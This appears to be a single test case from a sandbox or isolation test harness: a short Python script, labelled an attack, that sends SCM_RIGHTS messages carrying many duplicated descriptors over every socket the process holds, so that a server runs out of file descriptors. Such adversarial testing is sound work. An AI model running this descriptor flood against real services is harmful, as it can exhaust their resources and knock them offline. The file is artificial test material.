# attack: send descriptors over the channel, so that the server runs out of them
# must end: completed or raised or crashed or timed_out
# limits: wall=2s
# with: neighbour
import array, os, socket
payload = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 100)
for fd in sorted(int(name) for name in os.listdir("/proc/self/fd") if int(name) > 2):
    try:
        channel = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    try:
        channel.setblocking(False)
        for _ in range(100):
            channel.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, payload)])
    except OSError:
        pass
    channel.close()
